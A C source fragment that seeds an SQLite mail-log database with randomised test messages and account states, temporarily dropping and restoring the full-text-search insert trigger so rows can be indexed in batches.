insert_trigger_drop(struct logfill *f, char **sql_r)
{
	sqlite3_stmt *q = NULL;
	char drop[200];
	bool ok = false;

	if (sqlite3_prepare_v2(f->db, "SELECT name, sql FROM sqlite_master WHERE type = 'trigger'"
	    " AND tbl_name = 'messages' AND sql LIKE '%AFTER INSERT ON messages%'", -1, &q, NULL) != SQLITE_OK ||
	    sqlite3_step(q) != SQLITE_ROW) {
		seterr(f, "the log has no insert trigger on messages: %s", sqlite3_errmsg(f->db));
		goto out;
	}
	snprintf(drop, sizeof(drop), "DROP TRIGGER \"%s\"", (const char *)sqlite3_column_text(q, 0));
	*sql_r = xstrdup((const char *)sqlite3_column_text(q, 1));
	ok = exec(f, drop);
out:
	sqlite3_finalize(q);
	return ok;
}

bool
logfill_random(struct logfill *f, const struct logfill_opts *o)
{
	int64_t now = o->now != 0 ? o->now : (int64_t)time(NULL);
	int64_t span = (int64_t)(o->days != 0 ? o->days : 90) * 86400;
	int64_t gap = o->rows > 0 ? span / (int64_t)o->rows : 1;
	int64_t *times = NULL;
	uint64_t uid_base = 0;
	struct scratch s;
	char *trigger = NULL;
	bool ok = false;

	f->rng = o->seed * 0x2545F4914F6CDD1Dull + 7;
	/* The FTS trigger costs a flush of the full-text index per row (FTS5
	 * syncs at each statement): 1,000,000 rows would take minutes.  The
	 * rows go to messages_fts in batches instead (fts_batch). */
	if (!exec(f, "BEGIN") || !insert_trigger_drop(f, &trigger))
		return false;
	f->fts.on = true;
	/* adding to a log: new UIDs after the old ones */
	{
		sqlite3_stmt *q = NULL;

		if (sqlite3_prepare_v2(f->db, "SELECT coalesce(max(uid), 0) FROM messages", -1, &q, NULL) != SQLITE_OK ||
		    sqlite3_step(q) != SQLITE_ROW) {
			seterr(f, "%s", sqlite3_errmsg(f->db));
			sqlite3_finalize(q);
			goto out;
		}
		uid_base = (uint64_t)sqlite3_column_int64(q, 0);
		sqlite3_finalize(q);
	}
	/* Times from newest back, so the newest row is exactly `now`; several
	 * rows share a second (keyset pagination must break ties by id). */
	times = xcalloc(o->rows > 0 ? o->rows : 1, sizeof(*times));
	{
		int64_t t = now;

		for (uint64_t k = 0; k < o->rows; k++) {
			times[o->rows - 1 - k] = t;
			if (rndn(f, 10) != 0)
				t -= (int64_t)rndn(f, (unsigned)(2 * gap + 1));
		}
	}
	for (uint64_t i = 0; i < o->rows; i++) {
		struct logfill_row r;
		/* hostile: about one row in 50, and always the 5 newest */
		bool hostile = o->hostile && (rndn(f, 50) == 0 || i + 5 >= o->rows);

		random_row(f, &r, &s, uid_base + i, times[i], hostile);
		if (!logfill_row(f, &r, NULL))
			goto out;
	}
	for (unsigned a = 0; a < N_ACCOUNTS; a++) {
		static const char *const states[] = { "idle", "idle", "idle", "connected", "error", "connecting" };
		const char *state = states[a % 6];
		sqlite3_stmt *st = f->ins_acct;

		sqlite3_bind_text(st, 1, logfill_accounts[a][0], -1, SQLITE_STATIC);
		sqlite3_bind_text(st, 2, logfill_accounts[a][1], -1, SQLITE_STATIC);
		sqlite3_bind_text(st, 3, state, -1, SQLITE_STATIC);
		sqlite3_bind_int64(st, 4, now - 3600 * a);
		sqlite3_bind_int64(st, 5, now - 30 * a);
		sqlite3_bind_int64(st, 6, a % 3);
		if (strcmp(state, "error") == 0) {
			sqlite3_bind_text(st, 7, "IMAP LOGIN: [AUTHENTICATIONFAILED] Sai mật khẩu", -1, SQLITE_STATIC);
			sqlite3_bind_int64(st, 8, now - 120);
		}
		sqlite3_bind_int64(st, 9, now);
		if (!step_done(f, st))
			goto out;
	}
	if (!fts_flush(f) || !exec(f, trigger) || !exec(f, "COMMIT"))
		goto out;
	ok = true;
out:
	if (!ok)
		sqlite3_exec(f->db, "ROLLBACK", NULL, NULL, NULL);
	f->fts.on = false;
	f->fts.len = f->fts.n = 0;
	free(times);
	free(trigger);
	return ok;
}
